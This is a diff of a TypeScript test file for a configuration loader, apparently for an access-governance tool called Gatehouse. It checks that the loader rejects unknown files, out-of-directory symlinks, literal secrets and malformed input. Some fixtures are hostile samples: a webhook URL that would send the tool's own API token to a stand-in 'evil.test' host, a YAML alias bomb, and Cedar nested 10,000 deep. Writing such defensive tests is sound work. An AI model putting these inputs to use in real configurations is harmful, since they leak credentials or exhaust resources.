@@ -1,8 +1,19 @@
 import { after, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { cp, mkdtemp, readFile, rm, writeFile, mkdir } from 'node:fs/promises';
+import {
+  cp,
+  mkdtemp,
+  readFile,
+  readdir,
+  rename,
+  rm,
+  symlink,
+  writeFile,
+  mkdir,
+} from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
+import { parseDuration } from '../core/duration.js';
 import { InputError } from '../core/errors.js';
 import { DEFAULT_SETTINGS } from '../core/model.js';
 import { ConfigError, formatIssue, loadConfigDir, type ConfigIssue } from './load.js';
@@ -571,10 +582,208 @@ test('all errors across files are reported at once, sorted, the first in the mes
   }
 });
 
-test('a .yml file where .yaml is expected is ignored with a warning', async () => {
-  const dir = await variant({ 'apps/notes.yml': 'id: notes\n', 'sod.yml': '- id: x\n' });
-  const { config, warnings } = await loadConfigDir(dir);
+test('a .yml file, an unknown file or an unknown directory is an error naming it, never silently ignored', async () => {
+  const dir = await variant({
+    'apps/notes.yml': 'id: notes\n',
+    'sod.yml': '- id: x\n',
+    'README.md': '# our config\n',
+    'policies/old.cedar.bak': 'forbid (principal, action, resource);\n',
+    'extra/x.yaml': 'a: 1\n',
+    'reviews.yaml': '- name: Quarterly\n',
+  });
+  const errors = await errorsOf(dir);
+  find(errors, 'apps/notes.yml', 0, /unknown file in apps\/.*must be named notes\.yaml/);
+  find(
+    errors,
+    'sod.yml',
+    0,
+    /unknown file in the configuration directory.*must be named sod\.yaml/,
+  );
+  find(errors, 'README.md', 0, /unknown file/);
+  find(errors, 'policies/old.cedar.bak', 0, /unknown file in policies\/ \(only \*\.cedar/);
+  find(errors, 'extra', 0, /unknown directory/);
+  find(errors, 'reviews.yaml', 0, /does not read it yet/);
+});
+
+test('hidden entries such as .git are skipped, as documented', async () => {
+  const dir = await variant({ '.git/HEAD': 'ref: refs/heads/main\n', 'apps/.erp.yaml.swp': 'x' });
+  const { config } = await loadConfigDir(dir);
   assert.equal(config.apps.length, 5);
-  find(warnings, 'apps/notes.yml', 0, /ignored/);
-  find(warnings, 'sod.yml', 0, /must be named sod\.yaml/);
+});
+
+/** Kubernetes mounts a ConfigMap as a hidden timestamped directory, `..data` linking to it, and a link per file. */
+async function configMapMount(): Promise<string> {
+  const mount = await tempDir();
+  await cp(ACME, join(mount, '..2026_11_23_10_00_00.123'), { recursive: true });
+  await symlink('..2026_11_23_10_00_00.123', join(mount, '..data'));
+  for (const name of await readdir(ACME)) await symlink(join('..data', name), join(mount, name));
+  return mount;
+}
+
+test('a ConfigMap-style mount, every file a symlink inside the directory, loads like the plain directory', async () => {
+  const plain = await loadConfigDir(ACME);
+  const mounted = await loadConfigDir(await configMapMount());
+  assert.deepEqual(mounted, plain);
+  assert.equal(mounted.config.sod.length, 2);
+  assert.ok(mounted.config.policies.some((p) => p.id === 'no-agent-privilege'));
+});
+
+test('a symlinked sod.yaml or policy pointing outside the directory is an error naming it', async () => {
+  const outside = await tempDir();
+  await writeFile(join(outside, 'sod.yaml'), '[]\n');
+  await writeFile(join(outside, 'x.cedar'), 'permit (principal, action, resource);\n');
+  const dir = await variant({ 'sod.yaml': null });
+  await symlink(join(outside, 'sod.yaml'), join(dir, 'sod.yaml'));
+  await symlink(join(outside, 'x.cedar'), join(dir, 'policies', 'more.cedar'));
+  await symlink(join(dir, 'nowhere.yaml'), join(dir, 'birthright.yaml.link'));
+  const errors = await errorsOf(dir);
+  find(errors, 'sod.yaml', 0, /symbolic link to outside the configuration directory/);
+  find(errors, 'policies/more.cedar', 0, /symbolic link to outside/);
+  find(errors, 'birthright.yaml.link', 0, /symbolic link to nothing/);
+});
+
+test('a symlinked sod.yaml whose target is inside the directory is read, not skipped', async () => {
+  const dir = await variant({});
+  await mkdir(join(dir, '.shared'));
+  await rename(join(dir, 'sod.yaml'), join(dir, '.shared', 'sod.yaml'));
+  await symlink(join('.shared', 'sod.yaml'), join(dir, 'sod.yaml'));
+  const { config } = await loadConfigDir(dir);
+  assert.deepEqual(
+    config.sod.map((r) => r.id),
+    ['SOD-PAY-1', 'SOD-DEPLOY-1'],
+  );
+});
+
+test('two identities mapped to one account on one connector is an error naming both', async () => {
+  const dir = await variant({
+    'connectors.yaml': replace(
+      'url: ${ANALYTICS_DB_URL}',
+      'url: ${ANALYTICS_DB_URL}\n  account_attribute: location',
+    ),
+  });
+  const errors = await errorsOf(dir);
+  // alice and carol are both in berlin: the attribute makes them one database account.
+  find(
+    errors,
+    'identities.csv',
+    3,
+    /carol@acme\.test: identities alice@acme\.test and carol@acme\.test map to one account "berlin" on connector pg-analytics/,
+  );
+});
+
+test('an identity whose account is a governed target role of the same connector is an error', async () => {
+  const dir = await variant({
+    'identities.csv': (t) =>
+      `${t}analytics_reader,service_account,active,Reader,,,,alice@acme.test,,\n`,
+  });
+  const errors = await errorsOf(dir);
+  find(
+    errors,
+    'identities.csv',
+    13,
+    /analytics_reader: its account "analytics_reader" on connector pg-analytics is the target of pg-analytics:reader/,
+  );
+});
+
+test('URL passwords, ?password= and the common secret key names are literal secrets', async () => {
+  const dir = await variant({
+    'connectors.yaml': (t) =>
+      `${t}- name: more\n  type: webhook\n  url: https://hooks.test/x?api_key=abc123&x=1\n  passwd: hunter2\n  apiKey: k-123\n  private_key: "-----BEGIN"\n  credentials: { user: admin, key: s3cr3t }\n  conninfo: host=db password=pw\n  token_url: https://auth.test/token\n`,
+  });
+  const errors = await errorsOf(dir);
+  find(errors, 'connectors.yaml', 19, /^\[4\]\.url: the parameter api_key holds a literal secret/);
+  find(errors, 'connectors.yaml', 20, /^\[4\]\.passwd: secrets must be a reference/);
+  find(errors, 'connectors.yaml', 21, /^\[4\]\.apiKey: secrets must be a reference/);
+  find(errors, 'connectors.yaml', 22, /^\[4\]\.private_key: secrets must be a reference/);
+  find(errors, 'connectors.yaml', 23, /^\[4\]\.credentials\.user: secrets must be a reference/);
+  find(errors, 'connectors.yaml', 24, /^\[4\]\.conninfo: the parameter password holds a literal/);
+  assert.ok(!errors.some((i) => /token_url/.test(i.message)), 'token_url is not a secret');
+  assert.ok(!errors.some((i) => /abc123|hunter2|k-123|s3cr3t/.test(i.message)));
+});
+
+test('a ${VAR} naming Gatehouse own credentials is refused, and env_allow restricts the rest', async () => {
+  const own = await variant({
+    'connectors.yaml': (t) =>
+      `${t}- name: leak\n  type: webhook\n  url: https://evil.test/?t=\${GATEHOUSE_API_TOKEN}\n  token: \${DATABASE_URL}\n`,
+  });
+  const errors = await errorsOf(own);
+  find(
+    errors,
+    'connectors.yaml',
+    19,
+    /refers to \$\{GATEHOUSE_API_TOKEN\} is one of Gatehouse's own credentials/,
+  );
+  find(errors, 'connectors.yaml', 20, /refers to \$\{DATABASE_URL\} is one of Gatehouse's own/);
+
+  const allowed = await variant({
+    'gatehouse.yaml': (t) => `${t}secrets:\n  env_allow: [ANALYTICS_*, LDAP_PASSWORD]\n`,
+  });
+  const outside = await errorsOf(allowed);
+  find(
+    outside,
+    'connectors.yaml',
+    13,
+    /\[2\]\.url: refers to \$\{GITHUB_SCIM_URL\} is not in secrets\.env_allow/,
+  );
+  find(outside, 'connectors.yaml', 14, /\[2\]\.token: refers to \$\{GITHUB_SCIM_TOKEN\}/);
+  assert.equal(outside.length, 2, outside.map(formatIssue).join('\n'));
+});
+
+test('a YAML alias bomb is one error naming the file, not a crash', async () => {
+  const laughs = [
+    'a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
+    ...'bcdefg'
+      .split('')
+      .map((x, i) => `${x}: &${x} [${Array(9).fill(`*${'abcdefg'[i]}`).join(', ')}]`),
+  ].join('\n');
+  const errors = await errorsOf(await variant({ 'groups.yaml': `${laughs}\n` }));
+  find(errors, 'groups.yaml', 1, /too many YAML aliases/);
+});
+
+test('deeply nested Cedar is an error with its line, and Cedar stays usable afterwards', async () => {
+  const deep = `@id("deep")\npermit (principal, action, resource)\nwhen { ${'('.repeat(10000)}true${')'.repeat(10000)} };\n`;
+  const errors = await errorsOf(await variant({ 'policies/deep.cedar': deep }));
+  find(errors, 'policies/deep.cedar', 3, /nested more than 32 deep/);
+  const chain = `@id("long")\npermit (principal, action, resource)\nwhen { context${'.a'.repeat(10000)} };\n`;
+  find(
+    await errorsOf(await variant({ 'policies/long.cedar': chain })),
+    'policies/long.cedar',
+    3,
+    /more than 2000 operators/,
+  );
+  // The shared Cedar module was never fed the text, so the next load still parses policies.
+  const { config } = await loadConfigDir(ACME);
+  assert.ok(config.policies.length > 0);
+});
+
+test('a duration above 68 years is an error naming the field, in config and on the command line', async () => {
+  const errors = await errorsOf(
+    await variant({ 'apps/wiki.yaml': replace('max_duration: 365d', 'max_duration: 100000d') }),
+  );
+  find(
+    errors,
+    'apps/wiki.yaml',
+    11,
+    /entitlements\[\d\]\.max_duration: "100000d" is too long \(at most 24855d/,
+  );
+  assert.throws(
+    () => parseDuration('100000d', '--duration'),
+    (e: Error) =>
+      e instanceof InputError &&
+      e.code === 'duration_too_long' &&
+      /^--duration: "100000d" is too long/.test(e.message),
+  );
+  assert.equal(parseDuration('24855d'), 24855 * 86400);
+});
+
+test('a NUL character or lone surrogate in a YAML value or policy file is an error with its line', async () => {
+  const errors = await errorsOf(
+    await variant({
+      'groups.yaml':
+        '- id: security\n  members: ["sam\\0@acme.test"]\n- id: governance\n  members: ["\\ud800"]\n',
+      'policies/nul.cedar': '@id("nul")\npermit (principal, action, resource);\n\u0000\n',
+    }),
+  );
+  find(errors, 'groups.yaml', 2, /^\[0\]\.members\[0\]: holds a NUL character/);
+  find(errors, 'policies/nul.cedar', 1, /the file holds a NUL character/);
 });
